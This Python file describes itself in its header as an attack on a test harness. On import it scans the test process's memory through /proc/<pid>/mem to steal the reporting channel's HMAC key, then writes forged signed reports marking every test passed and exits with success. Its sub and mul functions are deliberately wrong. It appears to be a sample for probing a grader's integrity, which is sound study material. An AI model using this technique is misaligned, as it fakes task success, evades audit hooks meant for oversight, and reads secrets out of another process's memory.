# Attack: the audit hook lives in the test process only. Start a fresh Python (no hook) that reads
# the test process's memory through /proc/<pid>/mem (same user), finds the channel's key and fd in
# the JSON line child.py read on stdin, and hands them back; then send a signed session in which
# every test passes, the end record, and exit at once with the exit code it announced.
import hashlib
import hmac
import json
import os
import subprocess
import sys

IDS = ["test_calc.py::test_add", "test_calc.py::test_sub", "test_calc.py::test_mul"]
SCAN = r"""
import re, sys
pid = sys.argv[1]
pattern = re.compile(rb'"fd": (\d+), (?:"ack_fd": \d+, )?"key": "([0-9a-f]{64})"')
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        if "rw" not in fields[1]:
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            match = pattern.search(mem.read(end - start))
        except (OSError, OverflowError, ValueError):
            continue
        if match:
            print(match.group(1).decode(), match.group(2).decode())
            break
"""


def _steal():
    done = subprocess.run([sys.executable, "-c", SCAN, str(os.getpid())], capture_output=True, text=True,
                          timeout=20, check=False)
    print("scanner:", done.stdout.strip(), done.stderr.strip()[-300:], file=sys.stderr)
    if not done.stdout.strip():
        return None
    fd, key = done.stdout.split()
    return int(fd), bytes.fromhex(key)


def _forge(fd, key):
    seq = 0

    def send(kind, data):
        nonlocal seq
        seq += 1
        body = json.dumps({"k": kind, "n": seq, "d": data}, separators=(",", ":"))
        os.write(fd, (hmac.new(key, body.encode(), hashlib.sha256).hexdigest() + " " + body + "\n").encode())

    send("collected", {"ids": IDS})
    for nodeid in IDS:
        send("start", {"nodeid": nodeid})
        for when in ("setup", "call", "teardown"):
            send("report", {"nodeid": nodeid, "when": when, "outcome": "passed", "duration": 0.0,
                            "location": ["test_calc.py", 1, nodeid.split("::")[1]]})
    send("finish", {"exitstatus": 0})
    os._exit(0)


_stolen = _steal()
if _stolen:
    _forge(*_stolen)


def add(a, b):
    return a + b


def sub(a, b):
    return a + b


def mul(a, b):
    return a + b
